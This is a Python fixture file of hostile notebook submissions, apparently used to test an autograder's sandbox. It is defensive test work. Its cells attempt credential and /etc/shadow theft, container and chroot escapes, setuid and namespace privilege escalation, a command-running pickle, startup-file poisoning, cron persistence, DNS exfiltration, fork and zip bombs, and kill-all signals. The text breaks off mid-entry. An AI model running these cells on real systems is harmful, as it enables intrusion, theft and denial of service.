"""Hostile submissions that want something of the machine, each with one trick, and what must hold.

The cells know where everything is (`gradebook`, `tcp`, `process`, …, see host.py) and print what they get.
Bombs have a fuse: they stop by themselves where it is proved that nobody has stopped them.
"""

from dataclasses import dataclass

__all__ = ["ATTACKS", "LIMITS_OF_WEAK", "Attack"]


@dataclass(frozen=True)
class Attack:
    """One submission.

    For every attack the host must be untouched, no secret told, nothing left running, other kernels must
    answer, and so must the cell after this one. `prints` (a pattern) is what the cell must have printed
    besides. `works` says that it would succeed without a sandbox, which a test tries.
    """

    name: str
    tries: str  # completes "It …"
    cell: str
    prints: str = ""
    error: str = ""  # what its error may be, with spaces; "-" stands for none
    works: bool = False
    stalls: bool = False  # has to be stopped by the grader's time limit
    fatal: bool = False  # later cells may not run; then a flag says so
    afterwards: str = ""  # a later submission's cell, which must print "clean"


def _each(attempts: str) -> str:
    """A cell that makes attempts, one a line, and prints what each gives."""
    lines = [line for line in attempts.strip().splitlines() if line.strip()]
    return "\n".join(f"attempt(lambda: {line.strip()})" for line in lines)


# Names for the attacker's cells: a way to go on after a refusal, and system calls by number.
TOOLS = """
import ctypes, errno, os, platform, shutil, signal, socket, subprocess, sys, time
def attempt(do):
    try:
        print("got", do())
    except BaseException as error:
        print("refused", type(error).__name__)
libc = ctypes.CDLL(None, use_errno=True)
def call(intel, arm, *arguments):
    result = libc.syscall(arm if platform.machine() == "aarch64" else intel, *arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), "system call")
    return result
def send(content, kind="display_data"):
    kernel = get_ipython().kernel
    header = kernel.session.msg_header(kind)
    parts = [kernel.session.pack(header), kernel.session.pack(kernel.get_parent()["header"]), b"{}", content]
    kernel.iopub_socket.send_multipart([b"x", b"<IDS|MSG>", kernel.session.sign(parts), *parts])
def checked(result):
    if result != 0:
        raise OSError(ctypes.get_errno(), "libc")
    return "done"
"""

FILES = [
    Attack(
        "reads the gradebook",
        "opens gradebook.db, as a file and as a database",
        _each("""
            open(gradebook).read()
            __import__("sqlite3").connect(f"file:{gradebook}?mode=ro", uri=True).execute("select 1")
        """),
        works=True,
    ),
    Attack(
        "reads the solutions",
        "walks through the course's folder and prints every file",
        """
for folder, _, names in os.walk(course):
    for name in names:
        attempt(lambda: open(os.path.join(folder, name)).read())
attempt(lambda: open(solution).read())
""",
        works=True,
    ),
    Attack(
        "reads the hidden tests",
        "looks for notebooks, in its own folder too",
        """
import pathlib
for path in [*pathlib.Path(".").rglob("*.ipynb"), pathlib.Path(hidden)]:
    attempt(path.read_text)
""",
        works=True,
    ),
    Attack("reads another submission", "opens bob's notebook", _each("open(other).read()"), works=True),
    Attack(
        "reads keys",
        "opens the instructor's SSH key",
        _each("open(key).read()\nos.listdir(home)"),
        works=True,
    ),
    Attack(
        "reads Jupyter's tokens",
        "opens the runtime file of the instructor's JupyterLab",
        _each("open(token).read()"),
        works=True,
    ),
    Attack(
        "reads what everybody may read",
        "opens a file in /tmp that is readable for all",
        _each("open(world).read()\nopen(world, 'a').write('!')"),
        works=True,
    ),
    Attack(
        "password hashes",
        "opens /etc/shadow and /etc/gshadow",
        _each("open('/etc/shadow').read(1)\nopen('/etc/gshadow').read(1)"),
        prints=r"\A(refused \w+\n)+\Z",
    ),
    Attack(
        "dots in a path",
        "goes up from its folder",
        _each("open('../' * 30 + gradebook).read()\nopen(f'/usr/bin/../..{gradebook}').read()"),
        works=True,
    ),
    Attack(
        "root of a process",
        "goes through /proc/self/root, /proc/1/root and other processes' roots and folders",
        """
for pid in ("self", "thread-self", 1, process, grader, os.getppid()):
    attempt(lambda: open(f"/proc/{pid}/root{gradebook}").read())
    attempt(lambda: open(f"/proc/{pid}/cwd/gradebook.db").read())
""",
        works=True,
    ),
    Attack(
        "open descriptors",
        "looks for folders and files that it may have inherited",
        """
for number in range(256):
    attempt(lambda: os.read(os.open(gradebook.lstrip("/"), os.O_RDONLY, dir_fd=number), 99))
    attempt(lambda: os.read(os.open("../" * 20 + gradebook, os.O_RDONLY, dir_fd=number), 99))
for name in os.listdir("/proc/self/fd"):
    attempt(lambda: os.readlink(f"/proc/self/fd/{name}"))
""",
    ),
    Attack(
        "link out",
        "makes a symbolic link to the gradebook and opens it",
        "os.symlink(gradebook, 'mine.db')\nattempt(lambda: open('mine.db').read())",
        works=True,
    ),
    Attack(
        "hard link",
        "makes the gradebook a file of its own folder",
        _each("os.link(gradebook, 'mine.db') or open('mine.db').read()"),
    ),
    Attack(
        "links for the grader",
        "leaves links to the course's files where the grader may write, read or clean up",
        """
os.remove("data.csv")
os.symlink(gradebook, "data.csv")
for name in ("assignment.ipynb", "week01.ipynb", "timestamp.txt", "notebook.html"):
    attempt(lambda: os.symlink(hidden, name))
for folder in (os.getcwd(), os.environ["HOME"], os.environ["TMPDIR"]):
    attempt(lambda: os.symlink(course, os.path.join(folder, "course")))
for folder in ("home", "tmp", "cache"):
    place = os.path.join(os.path.dirname(os.getcwd()), folder)
    attempt(lambda: (os.rename(place, place + "-old"), os.symlink(course, place)))
""",
    ),
    Attack(
        "file handles",
        "opens files by handle, past all folders (the container escape “shocker”)",
        """
import struct
root = os.open("/usr/bin", os.O_RDONLY)
for inode in (1, 2, 128, 256):
    handle = ctypes.create_string_buffer(struct.pack("iiQ", 8, 1, inode))
    attempt(lambda: os.listdir(call(304, 265, root, handle, os.O_RDONLY)))
""",
        prints=r"\A(refused PermissionError\n)+\Z",
    ),
    Attack(
        "chroot escape",
        "changes its root with a folder still open, and goes up from there",
        """
os.makedirs("cage", exist_ok=True)
top = os.open("/usr/bin", os.O_RDONLY)
attempt(lambda: os.chroot("cage"))
os.fchdir(top)
for _ in range(50):
    os.chdir("..")
attempt(lambda: os.chroot("."))
attempt(lambda: open(gradebook).read())
""",
        prints="refused PermissionError",
    ),
    Attack(
        "mounts",
        "makes read-only folders writable and mounts a disk",
        """
for source, target, kind, flags in (
    (None, b"/usr", None, 0x20 | 0x1000), (None, b"/", None, 0x20), (b"tmpfs", b"/usr", b"tmpfs", 0),
    (b"/dev/vda", b"/tmp", b"ext4", 0), (b"proc", b"/tmp", b"proc", 0), (b"/", b"/tmp", None, 0x1000)):
    attempt(lambda: checked(libc.mount(source, target, kind, flags, None)))
attempt(lambda: open(gradebook).read())
""",
        prints="refused PermissionError",
    ),
    Attack(
        "unmounts",
        "takes its own mounts off to see what lies below, and asks for the old root",
        """
for target in (b"/usr", b"/proc", b"/dev/shm", b"/tmp", b"/"):
    attempt(lambda: checked(libc.umount2(target, 2)))
attempt(lambda: call(155, 41, b".", b"."))
attempt(lambda: open(gradebook).read())
""",
        prints="refused PermissionError",
    ),
    Attack(
        "user namespace",
        "becomes root in a user namespace of its own and mounts there",
        """
attempt(lambda: checked(libc.unshare(0x10000000)))
attempt(lambda: call(56, 220, 0x10000000 | 17, 0, 0, 0, 0))
attempt(lambda: call(435, 435, 0, 0))
attempt(lambda: subprocess.run(["unshare", "-rm", "true"], check=True))
""",
        prints=r"\A(refused \w+\n)+\Z",
    ),
    Attack(
        "somebody else's namespaces",
        "enters the grader's mount namespace",
        """
for pid in (grader, process, os.getppid(), 1):
    attempt(lambda: checked(libc.setns(os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), 0)))
    attempt(lambda: checked(libc.setns(os.pidfd_open(pid), 0x20000)))
attempt(lambda: open(gradebook).read())
""",
        prints="refused",
    ),
    Attack(
        "set-uid program",
        "becomes root by su, mount, a set-uid copy of the shell, or by asking",
        """
shutil.copy("/bin/sh", "shell")
attempt(lambda: os.chmod("shell", 0o6755))
attempt(lambda: subprocess.run(["./shell", "-p", "-c", "cat /etc/shadow"], check=True, capture_output=True))
for command in (["su", "-c", "id"], ["mount", "-o", "remount,rw", "/usr"], ["sudo", "-n", "id"]):
    attempt(lambda: subprocess.run(command, check=True, capture_output=True, stdin=subprocess.DEVNULL))
attempt(lambda: os.setuid(0) or os.seteuid(0))
attempt(lambda: open("/etc/shadow").read(1))
""",
        prints="refused",
    ),
    Attack(
        "device files",
        "makes the disk's device and reads it raw",
        """
import stat
for kind, major, minor in ((stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFCHR, 1, 1)):
    attempt(lambda: os.mknod("device", kind | 0o600, os.makedev(major, minor)))
    attempt(lambda: open("device", "rb").read(10))
for path in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/fuse", "/dev/kvm"):
    attempt(lambda: os.open(path, os.O_RDWR))
""",
        prints=r"\A(refused \w+\n)+\Z",
    ),
    Attack(
        "writes marks",
        "writes into the gradebook",
        _each("open(gradebook, 'w').write('100 points')\nopen(gradebook, 'a').write('100 points')"),
        works=True,
    ),
    Attack(
        "deletes the course",
        "removes the gradebook and every folder of the course",
        "attempt(lambda: os.remove(gradebook))\nattempt(lambda: shutil.rmtree(course))",
        works=True,
    ),
    Attack(
        "renames and cuts",
        "renames, cuts and overwrites files of the course, and replaces a solution",
        _each("""
            os.rename(gradebook, gradebook + ".old")
            os.truncate(other, 0)
            open(solution, "r+").write("def answer")
            os.mkdir(course + "/submitted/eve")
            os.symlink("/etc/passwd", course + "/link")
        """),
        works=True,
    ),
    Attack(
        "permissions of files",
        "takes the course's files away from their owner's programs",
        _each("os.chmod(gradebook, 0)\nos.utime(other, (0, 0))\nos.chown(solution, 12345, 12345)"),
        works=True,
    ),
    Attack(
        "poisons the package",
        "rewrites mmdl_course and adds modules that every Python imports at its start",
        """
import mmdl_course, sysconfig, pathlib
site = pathlib.Path(sysconfig.get_paths()["purelib"])
places = [pathlib.Path(mmdl_course.__file__), site / "sitecustomize.py", site / "zz.pth",
          pathlib.Path(mmdl_course.__file__).parent / "__pycache__" / "x.pyc"]
for place in places:
    attempt(lambda: place.open("a").close())
attempt(lambda: os.rename(site / "numpy", site / "nompy"))
""",
        prints=r"\A(refused \w+\n)+\Z",
    ),
    Attack(
        "poisons the course's cache",
        "replaces files that later submissions load",
        """
from mmdl_course.cache import cache_folder
cache = cache_folder()
(cache / "poison.npz").write_text("poison")
for path in list(cache.rglob("*"))[:5]:
    attempt(lambda: os.path.realpath(path) != str(path) and open(os.path.realpath(path), "r+b"))
    attempt(lambda: os.remove(os.path.realpath(path)) if path.is_symlink() else None)
""",
        afterwards="""
from mmdl_course.cache import cache_folder
print("poisoned" if (cache_folder() / "poison.npz").exists() else "clean")
""",
    ),
    Attack(
        "start-up files",
        "leaves start-up files for Python, IPython, Jupyter and the shell in its home",
        """
import pathlib, site
home_now = pathlib.Path.home()
for name in (".ipython/profile_default/startup/00.py", ".jupyter/jupyter_config.py", ".bashrc", ".pythonrc",
             ".config/matplotlib/matplotlibrc"):
    (home_now / name).parent.mkdir(parents=True, exist_ok=True)
    (home_now / name).write_text("poison = 1")
place = pathlib.Path(site.getusersitepackages())
attempt(lambda: place.mkdir(parents=True, exist_ok=True))
attempt(lambda: (place / "usercustomize.py").write_text("import builtins; builtins.poison = 1"))
""",
        afterwards="""
import os, pathlib
files = [path for path in pathlib.Path.home().rglob("*") if path.is_file()]
found = [path for path in files if "poison" in path.read_text(errors="replace")]
print("poisoned" if found or "poison" in globals() or "poison" in dir(__builtins__) else "clean")
""",
    ),
    Attack(
        "poisoned pickle",
        "leaves pickles that run a command in every folder that later submissions may load from",
        """
import pickle
class Evil:
    def __reduce__(self):
        return os.system, (f"echo poison > {course}/poisoned",)
for folder in (".", os.environ["HOME"], os.environ["TMPDIR"], "/tmp", "/dev/shm"):
    attempt(lambda: open(f"{folder}/{marker}.pkl", "wb").write(pickle.dumps(Evil())))
from IPython.display import publish_display_data
import base64
publish_display_data({"application/x-python-pickle": base64.b64encode(pickle.dumps(Evil())).decode()})
""",
        afterwards="""
import os, tempfile
places = {".", os.environ["HOME"], tempfile.gettempdir(), "/tmp", "/dev/shm"}
print("poisoned" if any(name.startswith("mmdl-left-") for at in places if os.access(at, os.R_OK)
                        for name in os.listdir(at)) else "clean")
""",
    ),
    Attack(
        "system settings",
        "writes to /proc/sys, /proc/sysrq-trigger and /sys",
        """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger",
             "/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/cgroup.procs",
             f"/proc/{grader}/oom_score_adj", f"/proc/{process}/oom_score_adj", f"/proc/{process}/mem"):
    attempt(lambda: os.open(path, os.O_WRONLY))
attempt(lambda: open("/proc/kcore", "rb").read(1))
""",
        prints=r"\A(refused \w+\n)+\Z",
    ),
]

PROCESSES = [
    Attack(
        "environments of processes",
        "reads what the grader, its parents and others have in their environment",
        """
for pid in (1, os.getppid(), grader, process, os.getpid()):
    attempt(lambda: open(f"/proc/{pid}/environ").read())
print(dict(os.environ))
""",
        works=True,
    ),
    Attack(
        "command lines",
        "lists all processes with their command lines",
        """
for name in os.listdir("/proc"):
    if name.isdigit():
        attempt(lambda: open(f"/proc/{name}/cmdline").read())
""",
        works=True,
    ),
    Attack(
        "memory of a process",
        "reads another process's memory by process_vm_readv and /proc",
        """
import struct
for pid in (process, grader, os.getppid()):
    buffer = ctypes.create_string_buffer(64)
    local = struct.pack("QQ", ctypes.addressof(buffer), 64)
    attempt(lambda: call(310, 270, pid, local, 1, struct.pack("QQ", 0x1000, 64), 1, 0))
    attempt(lambda: os.open(f"/proc/{pid}/mem", os.O_RDONLY))
    attempt(lambda: open(f"/proc/{pid}/maps").read(10))
""",
        prints="refused",
    ),
    Attack(
        "traces a process",
        "attaches to another process as a debugger",
        """
for pid in (process, grader, os.getppid()):
    attempt(lambda: call(101, 117, 16, pid, 0, 0))
    attempt(lambda: call(101, 117, 0x4206, pid, 0, 0))
""",
        prints=r"\A(refused PermissionError\n)+\Z",
    ),
    Attack(
        "descriptors of a process",
        "takes open files out of another process",
        """
for pid in (process, os.getppid() or process):
    attempt(lambda: call(438, 438, os.pidfd_open(pid), 0, 0))
    attempt(lambda: os.listdir(f"/proc/{pid}/fd"))
""",
        prints="refused",
    ),
    Attack(
        "kills others",
        "sends SIGKILL to a process, and to a neighbour's kernel",
        _each("os.kill(process, 9)\nos.killpg(process, 9)\nos.kill(neighbour, 9)"),
    ),
    Attack(
        "kills its parent",
        "sends SIGKILL to its watcher and the fork server",
        """
if os.getppid():
    attempt(lambda: os.kill(os.getppid(), 9))
attempt(lambda: os.kill(server, 9))
""",
        prints="refused",
    ),
    Attack(
        "kills everything",
        "sends SIGKILL to every process there is",
        "attempt(lambda: os.kill(-1, 9))",
    ),
    Attack(
        "stops its watcher",
        "sends SIGSTOP and SIGTERM to watcher, server and others",
        """
for sent in (signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP):
    for pid in (os.getppid(), server, grader, process):
        if pid:
            attempt(lambda: os.kill(pid, sent))
""",
        prints=r"\A(refused \w+\n)+\Z",
    ),
    Attack(
        "signals by other ways",
        "uses process descriptors, queued signals and files that signal their owner",
        """
import fcntl
attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(process), signal.SIGKILL))
attempt(lambda: checked(libc.sigqueue(process, 9, 0)))
attempt(lambda: call(234, 131, process, process, 9))
reader, writer = os.pipe()
def owned():
    fcntl.fcntl(reader, fcntl.F_SETOWN, process)
    fcntl.fcntl(reader, 10, signal.SIGKILL)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writer, b"x")
attempt(owned)
""",
        works=True,
    ),
    Attack(
        "limits of others",
        "takes open files, processors and priority from another process",
        """
import resource
attempt(lambda: resource.prlimit(process, resource.RLIMIT_NOFILE, (3, 3)))
attempt(lambda: os.setpriority(os.PRIO_PROCESS, process, 19))
attempt(lambda: os.sched_setaffinity(process, {0}))
attempt(lambda: os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0)))
""",
        works=True,
    ),
    Attack(
        "a neighbour's files",
        "looks for folders of other kernels that run at this moment",
        """
import glob
for place in ("/tmp/mmdl-k-*", neighbour_folder, f"/proc/{neighbour}/root/sandbox", f"/proc/{neighbour}/cwd"):
    for path in glob.glob(place + "/**", recursive=True):
        attempt(lambda: open(path).read())
    attempt(lambda: os.listdir(place))
""",
        prints="refused",
    ),
    Attack(
        "a neighbour's sockets",
        "talks to the sockets of another kernel, to give it code to run",
        """
import glob
for path in [*glob.glob(f"{neighbour_folder}/s-*"), *glob.glob("/tmp/mmdl-k-*/s-*"), neighbour_socket]:
    attempt(lambda: socket.socket(socket.AF_UNIX).connect(path))
""",
        prints=r"\A(refused \w+\n)+\Z",
    ),
    Attack(
        "types for the instructor",
        "pushes characters into the terminal that the grader was started from",
        """
import fcntl
for number in [*range(3), *[number for number in range(3, 40) if os.path.exists(f"/proc/self/fd/{number}")]]:
    attempt(lambda: fcntl.ioctl(number, 0x5412, b"x"))
for path in ("/dev/tty", "/dev/console", "/dev/tty1", "/dev/pts/0"):
    attempt(lambda: fcntl.ioctl(os.open(path, os.O_RDWR), 0x5412, b"x"))
""",
        prints=r"\A(refused \w+\n)+\Z",
    ),
]

NETWORK = [
    Attack(
        "TCP",
        "connects to a server on this machine and sends",
        _each("socket.create_connection(('127.0.0.1', tcp), timeout=1).send(b'x')"),
        works=True,
    ),
    Attack(
        "a web page",
        "fetches one, in Python and by a program",
        _each("""
            __import__("urllib.request").request.urlopen(f"http://127.0.0.1:{tcp}/", timeout=1)
            subprocess.run(["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{tcp}"], check=True, stderr=-1)
            socket.create_server(("", 0))
        """),
        prints=r"\A(refused \w+\n)+\Z",
    ),
    Attack(
        "UDP and names",
        "sends a datagram and asks for a name, which can carry a secret out",
        _each("""
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", udp))
            socket.getaddrinfo("secret.example.org", 53)
        """),
        works=True,
    ),
    Attack(
        "IPv6",
        "connects to ::1",
        _each("socket.create_connection(('::1', tcp6), timeout=1)"),
        prints="refused",
    ),
    Attack(
        "abstract socket",
        "connects to a Unix socket that has no file",
        _each("socket.socket(socket.AF_UNIX).connect(abstract)"),
        works=True,
    ),
    Attack(
        "socket in a folder",
        "connects to a Unix socket as the session bus or Docker have",
        _each("socket.socket(socket.AF_UNIX).connect(bus)"),
        works=True,
    ),
    Attack(
        "datagram to a socket in a folder",
        "sends to the system's log, which needs no connection",
        """
attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", log))
attempt(lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", log))
""",
        works=True,
    ),
    Attack(
        "rare kinds of sockets",
        "opens netlink, packet, vsock, Bluetooth, CAN, ALG and raw sockets",
        """
for family, kind in ((16, 3), (17, 3), (40, 1), (31, 3), (29, 3), (38, 5), (2, 3), (10, 3), (44, 3), (15, 3)):
    attempt(lambda: socket.socket(family, kind))
    attempt(lambda: call(41, 198, family, kind, 0))
    attempt(lambda: socket.socketpair(family, kind))
""",
        prints=r"\A(refused \w+\n)+\Z",
    ),
]

SYSTEM = [
    Attack(
        "io_uring",
        "asks for a queue whose requests no filter sees",
        _each("call(425, 425, 8, ctypes.create_string_buffer(256))\ncall(426, 426, 0, 0, 0, 0, 0)"),
        prints=r"\A(refused PermissionError\n)+\Z",
    ),
    Attack(
        "bpf",
        "loads a program into the operating system's kernel",
        "attempt(lambda: call(321, 280, 0, ctypes.create_string_buffer(128), 128))",
        prints=r"\A(refused PermissionError\n)+\Z",
    ),
    Attack(
        "keys",
        "reads and adds keys of the user's session",
        _each("call(250, 219, 0, -3, 1)\ncall(248, 217, b'user', b'x', b'y', 1, -3)"),
        prints=r"\A(refused PermissionError\n)+\Z",
    ),
    Attack(
        "userfaultfd",
        "asks to handle page faults, an aid of many exploits",
        "attempt(lambda: call(323, 282, 0))",
        prints=r"\A(refused PermissionError\n)+\Z",
    ),
    Attack(
        "performance counters",
        "watches the processor, for what others do",
        "attempt(lambda: call(298, 241, ctypes.create_string_buffer(128), 0, -1, -1, 0))",
        prints=r"\A(refused PermissionError\n)+\Z",
    ),
    Attack(
        "memory that no limit counts",
        "asks for memfd, secret memory, and System V segments",
        """
attempt(lambda: call(319, 279, b"x", 0))
attempt(lambda: call(447, 447, 0))
attempt(lambda: call(29, 194, 0, 1 << 20, 0o1777))
attempt(lambda: call(68, 186, 0, 0o1777))
""",
        prints=r"\A(refused PermissionError\n)+\Z",
    ),
    Attack(
        "kernel modules and a new kernel",
        "loads a module, asks for a restart, for swap and for accounting",
        """
for intel, arm in ((175, 105), (313, 273), (246, 104), (169, 142), (167, 224), (163, 89), (103, 116)):
    attempt(lambda: call(intel, arm, 0, 0, 0, 0))
""",
        prints=r"\A(refused PermissionError\n)+\Z",
    ),
    Attack(
        "the other table of calls",
        "makes system calls by x86's second table, to pass the filter",
        """
if platform.machine() == "x86_64":
    attempt(lambda: call(0x40000000 + 41, 0, 2, 1, 0))
    attempt(lambda: call(0x40000000 + 165, 0, b"x", b"/tmp", b"tmpfs", 0, 0))
else:
    print("refused PermissionError")
""",
        prints=r"\A(refused \w+\n)+\Z",
    ),
]

BOMBS = [
    Attack(
        "fork bomb",
        "starts processes without end",
        """
children = 0
for _ in range(400):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
    except OSError:
        break
print("started", children)
""",
        prints=r"started \d\d?\n|^$",
        error="- KernelDied",
    ),
    Attack(
        "thread bomb",
        "starts threads without end",
        """
import threading
for count in range(400):
    try:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    except RuntimeError:
        break
print("started", count)
""",
        prints=r"started \d\d?\n",
    ),
    Attack(
        "list that grows",
        "takes memory without end",
        "hoard = []\nfor _ in range(60):\n    hoard.append(bytearray(50_000_000))",
        error="MemoryError",
    ),
    Attack(
        "mapped memory",
        "maps 64 GiB at once, and one GiB after another",
        """
import mmap
attempt(lambda: mmap.mmap(-1, 64 << 30))
maps = []
for _ in range(8):
    maps.append(mmap.mmap(-1, 1 << 30))
""",
        error="OSError",
        prints="refused OSError",
    ),
    Attack(
        "memory in many processes",
        "takes in each of nine processes what one may have",
        """
for _ in range(9):
    if os.fork() == 0:
        hoard = bytearray(b"x") * 250_000_000
        time.sleep(30)
        os._exit(0)
time.sleep(30)
""",
        error="KernelDied",
    ),
    Attack(
        "memory in sockets",
        "fills the buffers of sockets in many processes: memory that belongs to no process",
        """
for _ in range(12):
    if os.fork() == 0:
        pairs = [socket.socketpair() for _ in range(450)]
        time.sleep(30)
        os._exit(0)
time.sleep(30)
""",
        error="KernelDied",
    ),
    Attack(
        "shared memory filler",
        "writes to /dev/shm without end",
        "for n in range(100):\n    open(f'/dev/shm/mmdl-{n}', 'wb').write(bytes(2_000_000))",
        error="OSError",
    ),
    Attack(
        "disk filler",
        "writes files without end, wherever it may write",
        """
for folder in (".", os.environ["HOME"], os.environ["TMPDIR"], "/tmp"):
    for n in range(100):
        attempt(lambda: open(f"{folder}/big{n}", "wb").write(bytes(2_000_000)))
""",
        prints="refused OSError",
    ),
    Attack(
        "one big file",
        "writes one file without end",
        "with open('big', 'wb') as file:\n    for _ in range(100):\n        file.write(bytes(2_000_000))",
        error="OSError",
    ),
    Attack(
        "many small files",
        "makes empty files without end",
        "for n in range(30_000):\n    os.close(os.open(f'f{n}', os.O_CREAT))",
        error="OSError",
    ),
    Attack(
        "file with holes",
        "makes a file of a terabyte that takes no space",
        "attempt(lambda: os.truncate(os.open('big', os.O_CREAT | os.O_RDWR), 1 << 40))\n"
        "attempt(lambda: os.posix_fallocate(os.open('big', os.O_RDWR), 0, 1 << 33))",
        prints=r"\A(refused OSError\n)+\Z",
    ),
    Attack(
        "zip bomb",
        "unpacks an archive that is a thousand times its size",
        """
import io, zipfile
with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
    for n in range(4):
        archive.writestr(f"zeros{n}", bytes(20_000_000))
print(os.path.getsize("bomb.zip"))
zipfile.ZipFile("bomb.zip").extractall()
""",
        error="OSError",
    ),
    Attack(
        "open files",
        "opens files until none can be opened",
        """
held = []
try:
    while len(held) < 5000:
        held.append(open("/dev/null"))
except OSError:
    print("refused after", len(held) < 1100)
    del held
""",
        prints="refused after True",
    ),
    Attack(
        "core dump",
        "crashes with its memory, to leave a file of that size",
        "os.abort()",
        error="KernelDied",
    ),
]

STALLS = [
    Attack(
        "swallows interrupts",
        "loops for ever and catches what should stop it",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        error="CellTimeoutError",
        stalls=True,
    ),
    Attack(
        "loop in C",
        "computes for hours inside a function that no interrupt reaches",
        "import hashlib\nhashlib.pbkdf2_hmac('sha256', b'', b'', 2**31 - 1)",
        error="CellTimeoutError",
        stalls=True,
    ),
    Attack(
        "ignores signals",
        "ignores SIGINT and sleeps for ever",
        "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: time.sleep(1000)",
        error="CellTimeoutError",
        stalls=True,
    ),
    Attack(
        "blocks all signals",
        "blocks every signal and loops",
        "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))\nwhile True: pass",
        error="CellTimeoutError",
        stalls=True,
    ),
    Attack(
        "stops itself",
        "sends itself SIGSTOP, so that it neither answers nor ends",
        "os.kill(os.getpid(), signal.SIGSTOP)\ntime.sleep(1000)",
        error="CellTimeoutError",
        stalls=True,
    ),
    Attack(
        "busy with all it has",
        "burns every processor in thirty processes while others are graded",
        """
for _ in range(30):
    if os.fork() == 0:
        while True: pass
print(neighbour and "burning")
while True:
    try:
        while True: pass
    except BaseException: pass
""",
        error="CellTimeoutError",
        stalls=True,
    ),
    Attack(
        "daemon",
        "leaves a process that has cut all ties",
        """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        subprocess.Popen(["/bin/sh", "-c", "sleep 100; true", marker], start_new_session=True)
    os._exit(0)
os.wait()
""",
    ),
    Attack(
        "work for later",
        "asks cron, at and systemd to start something when nobody looks",
        """
for command in (["crontab", "-"], ["at", "now"], ["batch"], ["systemd-run", "--user", "sleep", "100"]):
    attempt(lambda: subprocess.run(command, input=b"* * * * * sleep 100", check=True, capture_output=True))
for path in ("/var/spool/cron/crontabs/root", "/etc/cron.d/x", "/etc/profile.d/x.sh"):
    attempt(lambda: open(path, "w"))
""",
        prints=r"\A(refused \w+\n)+\Z",
    ),
    Attack(
        "hangs at its end",
        "registers an exit handler, a finaliser and a thread that never end",
        """
import atexit, threading
atexit.register(time.sleep, 1000)
class Slow:
    def __del__(self): time.sleep(1000)
slow = Slow()
threading.Thread(target=time.sleep, args=(1000,)).start()
""",
    ),
    Attack("leaves by the back door", "ends its process with status 0", "os._exit(0)", error="KernelDied"),
    Attack(
        "asks to be shut down",
        "exits as a user would",
        "get_ipython().ask_exit()\nexit()\nraise SystemExit(0)",
        error="SystemExit KernelDied CellTimeoutError",
        stalls=True,
        fatal=True,
    ),
    Attack(
        "cuts its own lines",
        "closes all its sockets, so that it cannot be asked",
        "os.closerange(3, 1024)",
        error="KernelDied CellTimeoutError",
        stalls=True,
    ),
]

OUTPUT = [
    Attack(
        "output flood",
        "prints without end",
        "while True:\n    try:\n        while True: print('spam' * 1000)\n    except BaseException: pass",
        error="TooMuchOutput CellTimeoutError",
        stalls=True,
    ),
    Attack(
        "stderr flood",
        "writes 50 MB to stderr, past Python too",
        """
for _ in range(500):
    sys.stderr.write("spam" * 12_500)
    os.write(2, b"spam" * 12_500)
""",
        error="TooMuchOutput",
    ),
    Attack(
        "giant picture",
        "shows 40 MB at once",
        "from IPython.display import publish_display_data\n"
        "publish_display_data({'text/plain': 'x', 'image/png': 'A' * 40_000_000})",
        error="TooMuchOutput",
    ),
    Attack(
        "messages that fill the grader",
        "sends data for widgets that nobody shows, 20 MB at a time",
        """
kernel = get_ipython().kernel
for n in range(15):
    data = {"state": {"x": "A" * 20_000_000}, "method": "update"}
    kernel.session.send(kernel.iopub_socket, "comm_msg", {"comm_id": str(n), "data": data},
                        parent=kernel.get_parent(), ident=b"comm")
""",
        error="TooMuchOutput",
    ),
    Attack(
        "one giant message",
        "sends 400 MB in one message",
        """
kernel = get_ipython().kernel
data = {"data": {"text/plain": "A" * 400_000_000}, "metadata": {}}
kernel.session.send(kernel.iopub_socket, "display_data", data, parent=kernel.get_parent(), ident=b"x")
""",
        error="TooMuchOutput CellTimeoutError KernelDied MemoryError",
        stalls=True,
    ),
    Attack(
        "malformed messages",
        "sends the grader messages in which parts are missing or of a wrong type",
        """
kernel = get_ipython().kernel
shown = {"data": {"text/plain": "x"}, "metadata": {}}
for kind, content in (
    ("stream", {}), ("stream", {"name": 5, "text": 7}), ("display_data", {}),
    ("display_data", {"data": [1], "metadata": 2}), ("display_data", {**shown, "transient": 5}),
    ("display_data", {**shown, "data": {"text/plain": {"a": 1}}}), ("error", {}), ("status", {}),
    ("display_data", {**shown, "data": {"application/vnd.mmdl.sealed+json": [1]}}), ("clear_output", {}),
    ("display_data", {**shown, "execution_count": "many"}), ("execute_result", {"data": None}),
    ("update_display_data", {"transient": {"display_id": "a"}}), ("comm_open", {}), ("execute_input", {}),
    ("comm_msg", {"data": 1}), ("no such type", {}), ("error", {"ename": 1, "evalue": 2, "traceback": 3})):
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent(), ident=b"x")
""",
        error="BadMessage",
    ),
    Attack(
        "text that cannot be written",
        "shows half characters and zeros, which no file takes",
        """
print("\\ud800 half", chr(0))
send(b'{"data": {"text/plain": "\\\\ud800", "text/html": "\\\\u0000 \\\\udfff"}, "metadata": {}}')
send(b'{"data": {"text/\\\\ud800": "x"}, "metadata": {}}')
""",
    ),
    Attack(
        "messages that break a reader",
        "sends contents that are nested a hundred thousand times, no mapping, or no JSON",
        """
